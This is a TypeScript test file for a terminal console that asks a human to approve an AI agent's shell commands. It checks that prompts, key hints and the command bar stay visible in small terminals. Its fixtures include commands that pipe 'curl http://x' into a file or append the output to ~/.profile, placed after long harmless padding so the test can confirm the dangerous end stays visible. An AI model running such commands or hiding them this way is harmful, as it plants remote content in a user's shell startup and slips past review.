// Small terminals (40×12, 60×10, ...): a prompt gives up its text before the footer, so the
// keys, the command bar and what is typed into it stay in view. Whole frames of the real console.
import { describe, test, expect } from 'vitest';

import { KEY, runHeadless } from '../support/console-rig.js';
import { createConsoleStore } from '../../src/ui/store.js';
import { normalize, open, openAtPrompt, renderStore, STAGNANT, STAGNANT_POLICY } from '../support/ui-helpers.js';
import { quitText } from '../../src/ui/PromptPanel.js';

const LONG_CALL = `
turns:
  - thought: Look.
    tool_calls:
      - { id: t1, name: shell, args: { command: "echo ${'a'.repeat(400)} && curl http://x | tee END.sh" } }
  - final: Looked.
`;

/** Three turns without progress (a stagnation alert, its banner stays), then a call to approve. */
const ALERT_THEN_CALL = `
turns:
  - thought: Look around.
  - thought: Still looking.
  - thought: Checking the greeting.
  - thought: Try it.
    tool_calls:
      - { id: t1, name: shell, args: { command: "touch ran.txt && echo marked" } }
  - final: Done.
`;

describe('at 40×12', () => {
  test('an approval prompt with an alert: the banner gives its row up, the prompt keeps its keys and the command, the footer and the command bar stay in view', async () => {
    const rig = await openAtPrompt({ transcript: ALERT_THEN_CALL, policy: STAGNANT_POLICY, columns: 40, rows: 12 });
    expect(rig.store.getState().session.alerts.map((a) => a.kind)).toEqual(['stagnation']);
    const frame = normalize(rig.frame()).split('\n');
    expect(frame).toContain('│ $ touch ran.txt && echo marked       │');
    expect(frame.length).toBeLessThanOrEqual(11);
    expect(frame.some((row) => row.includes('[y] approve once'))).toBe(true);
    expect(frame.at(-1)).toMatch(/\[\?\] help {2}\[q\] quit$/);
    await rig.press('/');
    await rig.type('goal st');
    await rig.waitFor(() => normalize(rig.frame()).split('\n').at(-1) === '› /goal st', 'the typed text in view');
    await rig.press(KEY.escape);
  });


  test('a stagnation pause under its banner keeps its keys and the footer; r opens /goal redirect where it can be seen', async () => {
    const rig = await open({ transcript: STAGNANT, policy: { ...STAGNANT_POLICY, onDetect: 'pause' }, columns: 40, rows: 12 });
    await rig.waitFor(() => rig.store.getState().session.pending?.kind === 'pause', 'the stagnation pause');
    await rig.waitForArmed();
    const frame = normalize(rig.frame()).split('\n');
    expect(frame.length).toBeLessThanOrEqual(11);
    expect(frame).toContain('│ [c] continue  [r] redirect the goal  │');
    expect(frame.at(-1)).toMatch(/\[\?\] help {2}\[q\] quit$/);
    await rig.press('r');
    await rig.waitFor(() => /^› \/goal redirect/m.test(rig.frame()), 'the bar in view');
    await rig.type('keep the API');
    await rig.waitFor(() => normalize(rig.frame()).split('\n').at(-1) === '› /goal redirect keep the API', 'the typed text in view');
    await rig.press(KEY.escape);
  });

  test('an approval prompt with a long command keeps its keys, the end of the command and the command bar in view', async () => {
    const rig = await openAtPrompt({ transcript: LONG_CALL, columns: 40, rows: 12 });
    expect(rig.frame()).toContain('&& curl http://x | tee END.sh │');
    expect(rig.frame()).toContain('[y] approve once');
    await rig.press('/');
    await rig.type('goal st');
    await rig.waitFor(() => normalize(rig.frame()).split('\n').at(-1) === '› /goal st', 'the typed text in view');
    await rig.press(KEY.escape);
  });
});

/** A 1,600-character command whose dangerous end is past a long run of harmless text. */
const VERY_LONG_CALL = `
turns:
  - thought: Look.
    tool_calls:
      - { id: t1, name: shell, args: { command: "echo ${'A'.repeat(1560)} && curl http://x | tee -a ~/.profile" } }
  - final: Looked.
`;

describe('a long command in a small terminal', () => {
  test.each([[40, 12], [50, 12], [120, 8]])('at %i×%i the prompt uses the rows a timeline of a row or two would take, so the whole dangerous end shows', async (columns, rows) => {
    const rig = await openAtPrompt({ transcript: VERY_LONG_CALL, columns, rows });
    const frame = normalize(rig.frame());
    // The end of the command, as much of it as a row holds after the elision mark.
    const inner = columns - 4;
    const end = `echo ${'A'.repeat(1560)} && curl http://x | tee -a ~/.profile`.slice(-(inner - 1));
    expect(end).toContain('curl http://x | tee -a ~/.profile');
    expect(frame.split('\n').some((row) => row.includes(`…${end}`) || row.includes(`&& curl http://x | tee -a ~/.profile`))).toBe(true);
    expect(frame).toContain('[y] approve once');
    expect(frame.split('\n').at(-1)).toMatch(/\[q\] quit$/);
    expect(frame.split('\n').length).toBeLessThanOrEqual(rows - 1);
  });

  test.each([[40, 12], [120, 8]])('at %i×%i v shows the arguments in every row it can, with how many there are in view; the footer lists its keys', async (columns, rows) => {
    const rig = await openAtPrompt({ transcript: VERY_LONG_CALL, columns, rows });
    await rig.press('v');
    const frame = normalize(await rig.waitForFrame(/rows 1–\d+ of \d+/));
    const [, last, total] = /rows 1–(\d+) of (\d+)/.exec(frame)!;
    expect(Number(last)).toBeGreaterThanOrEqual(columns === 40 ? 4 : 2);
    expect(Number(total)).toBeGreaterThan(Number(last));
    expect(frame.split('\n').at(-1)).toContain('[esc/v] back to the prompt');
    // Every row of arguments on screen is the command's, and ↓ moves one row.
    await rig.press(KEY.down);
    await rig.waitForFrame(`rows 2–${Number(last) + 1} of ${total}`);
    await rig.press(KEY.escape);
  });
});

/** One call to approve, with a short command. */
const ONE_CALL = `
turns:
  - thought: Look.
    tool_calls:
      - { id: t1, name: shell, args: { command: "echo hi" } }
  - final: Looked.
`;

describe('a prompt that leaves the footer a row or two', () => {
  // Terminals where the prompt, its keys never cut, leaves one or two rows under it (or
  // none while it has its border): the completion list and the notice give theirs up, the
  // prompt its border, and the command bar stays in view.
  for (const [columns, rows] of [
    [60, 10],
    [100, 9],
    [80, 10],
    [50, 11],
    // No row left under a boxed prompt: the prompt gives its border up.
    [80, 9],
    [120, 8],
    // No row left under the prompt without its border: the top gives its rows up.
    [80, 7],
    [60, 7],
    [40, 8],
    [80, 6],
    [120, 5],
  ] as const) {
    test(`${columns}×${rows}: the bar and what is typed show on the last row, and the answer shows once the bar closes`, async () => {
      const rig = await openAtPrompt({ transcript: ONE_CALL, columns, rows });
      const rowsOf = () => normalize(rig.frame()).split('\n');
      expect(rowsOf().length).toBeLessThanOrEqual(rows - 1);
      expect(rowsOf().some((row) => row.includes('[y] approve once'))).toBe(true);
      await rig.press('/');
      await rig.type('goal st');
      await rig.waitFor(() => rowsOf().at(-1) === '› /goal st', 'the typed text on the last row');
      expect(rowsOf().length).toBeLessThanOrEqual(rows - 1);
      expect(rowsOf().some((row) => row.includes('$ echo hi'))).toBe(true);
      await rig.press(KEY.tab);
      await rig.press(KEY.enter);
      // On the footer's one row, or on its notice row above the key line when it has two.
      await rig.waitFor(() => rowsOf().slice(-2).some((row) => /^✓ active · revision 0/.test(row)), 'the answer in the footer');
      expect(rowsOf().some((row) => row.includes('[y] approve once'))).toBe(true);
      expect(rowsOf().length).toBeLessThanOrEqual(rows - 1);
    });
  }
});

describe('key hints by their brief labels in the least room', () => {
  // Terminals where the prompt's keys in full take so many rows that the prompt, the top
  // given up and its border too, leaves the command bar no row: the keys go by their brief
  // labels; where the full ones leave a row, they stay in full.
  const full = ['[y] approve once', '[a] always allow', '[A] wider rule', '[n] deny', '[d] deny with note', '[v] all args'];
  const brief = ['[y] once', '[a] always', '[A] wider', '[n] deny', '[d] note', '[v] args'];
  for (const [columns, rows, shown] of [
    [36, 6, brief],
    [40, 6, brief],
    [50, 6, brief],
    [60, 6, full],
    [40, 7, full],
    [80, 6, full],
  ] as const) {
    test(`${columns}×${rows}: every key shows ${shown === brief ? 'by its brief label' : 'in full'}, and the bar opens on the last row`, async () => {
      const rig = await openAtPrompt({ transcript: ONE_CALL, columns, rows });
      const rowsOf = () => normalize(rig.frame()).split('\n');
      // The prompt's rows (indented as in its box), not the footer's key line.
      const hints = (frame: string[]) => frame.filter((row) => row.startsWith('  ')).join('  ').split(/ {2,}/).filter((h) => /^\[.\] /.test(h));
      expect(hints(rowsOf()), rowsOf().join('\n')).toEqual(shown);
      await rig.press('/');
      await rig.type('goal st');
      await rig.waitFor(() => rowsOf().at(-1) === '› /goal st', 'the typed text on the last row');
      expect(rowsOf().length).toBeLessThanOrEqual(rows - 1);
      expect(rowsOf().some((row) => row.includes('$ echo hi'))).toBe(true);
      expect(hints(rowsOf()), rowsOf().join('\n')).toEqual(shown);
    });
  }
});

describe('the top in little room', () => {
  // Under 8 rows the prompt's keys and command and the command bar leave the fixed top too
  // few rows: the budget row goes first, then the header.
  for (const [columns, rows, header, budget] of [
    [80, 8, true, true],
    [80, 7, true, false],
    [80, 6, false, false],
  ] as const) {
    test(`${columns}×${rows}: the header ${header ? 'keeps its row' : 'gives its row up'}, the budget row ${budget ? 'too' : 'gives its row up'}, the bar keeps the last row`, async () => {
      const rig = await openAtPrompt({ transcript: ONE_CALL, columns, rows });
      const rowsOf = () => normalize(rig.frame()).split('\n');
      await rig.press('/');
      await rig.type('goal st');
      await rig.waitFor(() => rowsOf().at(-1) === '› /goal st', 'the typed text on the last row');
      const frame = rowsOf();
      expect(frame.length).toBeLessThanOrEqual(rows - 1);
      expect(frame[0]!.startsWith('AWAITING_TOOL · it 1/'), frame.join('\n')).toBe(header);
      expect(frame.some((row) => /^turns \d+%/.test(row)), frame.join('\n')).toBe(budget);
      expect(frame.some((row) => row.includes('Approve tool call shell (t1)'))).toBe(true);
      await rig.press(KEY.escape);
      await rig.waitFor(() => rowsOf().at(-1)!.includes('[?] help'), 'the key line back');
    });
  }
});

describe('an answer that keeps the bar open, in little room', () => {
  // An error keeps the bar open with the text to fix: the top gives its rows up for the
  // answer above the bar too, so what was wrong shows beside what was typed.
  for (const [columns, rows, whole] of [
    [80, 9, true],
    [80, 8, true],
    [60, 8, true],
    [80, 7, false],
  ] as const) {
    test(`${columns}×${rows}: the error shows above the bar${whole ? ', whole' : ', its first row'}`, async () => {
      const rig = await openAtPrompt({ transcript: ONE_CALL, columns, rows });
      const rowsOf = () => normalize(rig.frame()).split('\n');
      await rig.press('/');
      await rig.type('budget bogus +zz');
      await rig.press(KEY.enter);
      await rig.waitFor(() => rowsOf().some((row) => row.startsWith('✗ unknown budget dimension "bogus"')), 'the error in view');
      const frame = rowsOf();
      expect(frame.length).toBeLessThanOrEqual(rows - 1);
      expect(frame.at(-1)).toBe('› /budget bogus +zz');
      expect(frame.some((row) => row.includes('[y] approve once'))).toBe(true);
      expect(frame.join(' ').includes('tokens, cost'), frame.join('\n')).toBe(whole);
      await rig.press(KEY.escape);
      await rig.waitFor(() => rowsOf().at(-1)!.includes('[?] help'), 'the key line back');
    });
  }
});

describe('help over a prompt in little room', () => {
  // The prompt cannot be answered under help: where it would leave help too few rows it
  // shows its title and how to get back to it, and help takes the rest (no blank notice row).
  for (const [columns, rows, least] of [
    [80, 10, 1],
    [80, 16, 3],
    [50, 11, 1],
    [70, 9, 1],
    [90, 8, 1],
    [132, 10, 2],
  ] as const) {
    test(`${columns}×${rows}: help shows at least ${least} of its rows under its title, and Esc brings the whole prompt back`, async () => {
      const rig = await openAtPrompt({ transcript: ONE_CALL, columns, rows });
      await rig.press('?');
      await rig.waitFor(() => rig.frame().includes('Help · keys and commands'), 'help');
      const frame = normalize(rig.frame()).split('\n');
      expect(frame.length).toBeLessThanOrEqual(rows - 1);
      expect(frame.some((row) => row.includes('close help (esc, ? or q) to answer the prompt'))).toBe(true);
      const title = frame.findIndex((row) => row.includes('Help · keys and commands'));
      // The footer's key line is the last row (help's keys, in the order the width allows).
      const keys = frame.length - 1;
      expect(frame[keys]).toContain('[esc/?/q] close');
      expect(keys - title - 1, frame.join('\n')).toBeGreaterThanOrEqual(least);
      expect(frame.slice(title + 1, keys).every((row) => row.trim() !== '')).toBe(true);
      await rig.press(KEY.escape);
      await rig.waitFor(() => normalize(rig.frame()).includes('$ echo hi'), 'the whole prompt again');
      expect(rig.frame()).toContain('[y] approve once');
    });
  }
});

describe('other prompts in little room', () => {
  for (const [columns, rows] of [
    [60, 11],
    [40, 13],
  ] as const) {
    test(`${columns}×${rows}: the quit confirmation shows the resume command whole, before the timeline`, async () => {
      let now = Date.UTC(2026, 0, 1);
      const { events } = await runHeadless(STAGNANT, STAGNANT_POLICY, () => (now += 250));
      const rig = await renderStore(createConsoleStore(events.slice(0, 12)), { columns, rows, resumeCommand: 'node dist/cli.js resume .loopdeck/runs/20261202-113658-h405' });
      await rig.press('q');
      await rig.waitForFrame('Quit while the run is live?');
      const frame = normalize(rig.frame()).split('\n');
      expect(frame.length).toBeLessThanOrEqual(rows - 1);
      const box = frame.slice(frame.findIndex((row) => row.includes('Quit while the run is live?')));
      // Cut in the middle it could not be run as printed.
      expect(box.join('\n'), frame.join('\n')).not.toMatch(/ … /);
      expect(box.join('').replace(/[│\s]+/g, '')).toContain('nodedist/cli.jsresume.loopdeck/runs/20261202-113658-h405');
      await rig.press(KEY.escape);
    });
  }

  test('40×13: the deny note shows how to go back, whole', async () => {
    const rig = await openAtPrompt({ transcript: ONE_CALL, columns: 40, rows: 13 });
    await rig.press('d');
    await rig.waitFor(() => rig.frame().includes('note to the agent ›'), 'the note field');
    for (const ch of 'too risky') await rig.press(ch);
    await rig.waitFor(() => normalize(rig.frame()).includes('too risky'), 'the note typed');
    const text = normalize(rig.frame()).replace(/[│\s]+/g, ' ');
    expect(text).toContain('enter: deny with this note · esc: back to the prompt');
    await rig.press(KEY.escape);
  });
});

describe('the quit confirmation in little room', () => {
  const command = 'node ../trial/dist/cli.js resume .loopdeck/runs/20261201-231007-rryg';
  test('the resume command comes before the sentence around it; cut in the middle only when a row cannot hold it', () => {
    expect(quitText(command, 140, 3)).toEqual([`The run stops here; its log is kept, and \`${command}\` continues it later.`]);
    expect(quitText(command, 36, 3)).toEqual(['Log kept; continue it later with:', 'node ../trial/dist/cli.js resume', '.loopdeck/runs/20261201-231007-rryg']);
    const one = quitText(command, 36, 1);
    expect(one).toHaveLength(1);
    expect(one[0]).toMatch(/^node \.\.\/tri.* … .*231007-rryg$/);
  });
});
